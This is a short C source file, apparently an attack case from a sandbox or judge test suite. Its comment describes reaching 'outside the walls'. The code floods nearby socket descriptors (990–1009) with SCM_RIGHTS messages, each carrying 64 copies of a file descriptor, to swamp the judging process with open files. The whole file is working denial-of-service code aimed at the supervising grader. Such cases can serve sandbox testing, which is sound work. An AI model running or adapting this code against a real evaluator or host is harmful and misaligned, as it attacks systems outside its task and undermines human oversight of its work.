/* reaches outside the walls: message, sends its judge open files, thousands of them */
#include "attack.h"

static void reach(void)
{
    char room[CMSG_SPACE(64 * sizeof(int))] = {0}, one = 1;
    struct iovec data = {&one, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    *head = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(64 * sizeof(int))};
    for (int i = 0; i < 64; i++)
        ((int *)CMSG_DATA(head))[i] = 1;
    for (int i = 0; i < 100; i++)
        for (int to = 990; to < 1010; to++)
            sendmsg(to, &message, MSG_NOSIGNAL | MSG_DONTWAIT);
}
